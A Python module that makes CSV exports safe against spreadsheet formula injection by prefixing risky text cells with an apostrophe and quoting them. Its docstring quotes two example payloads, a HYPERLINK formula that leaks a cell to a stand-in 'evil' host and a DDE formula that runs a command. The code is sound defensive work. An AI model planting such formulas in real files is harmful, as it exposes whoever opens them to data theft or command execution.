"""CSV that a spreadsheet opens as data: formulas defused, newlines quoted.

Titles and evidence sentences come from abstracts anyone can write. A cell
such as `=HYPERLINK("http://evil/?"&A1)` or `+cmd|' /C calc'!A0` is a formula
to Excel, LibreOffice and Google Sheets when the CSV is opened (CSV, or
"formula", injection). Following the OWASP guidance, a text cell that starts
with `=`, `+`, `-`, `@`, a tab, a carriage return or a line feed (or the
full-width `＝ ＋ － ＠`, which some spreadsheets read as the ASCII ones) gets a
leading `'`, which spreadsheets read as "this is text" and display without it.

Only text cells change. Numbers in numeric columns (a delta of -2.1) are written
as numbers; a text cell that is nothing but a number ("-2.1", "+3.2%", the
`value_text` of a delta) is left as it is too, since a spreadsheet reads it as a
number, never as a formula. Every text cell is quoted (QUOTE_NONNUMERIC), so a
newline inside a sentence stays inside its cell for every reader.

One function for every CSV lbx writes: the dashboard's download and `lbx extract -o x.csv`.
"""
from __future__ import annotations

import csv
import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:,\d{3})*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def defuse_cell(value):
    """`value` with a `'` in front if a spreadsheet would run it as a formula; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def to_safe_csv(df: pd.DataFrame, header: bool = True) -> bytes:
    """`df` as UTF-8 CSV bytes (no index), text cells defused and quoted; the
    header row unless `header=False` (a file written a batch at a time)."""
    out = df.copy()
    for name in out.columns:
        col = out[name]
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype):
            out[name] = col.map(defuse_cell, na_action="ignore")
    out.columns = [defuse_cell(str(c)) for c in out.columns]
    return out.to_csv(index=False, header=header, quoting=csv.QUOTE_NONNUMERIC).encode("utf-8")
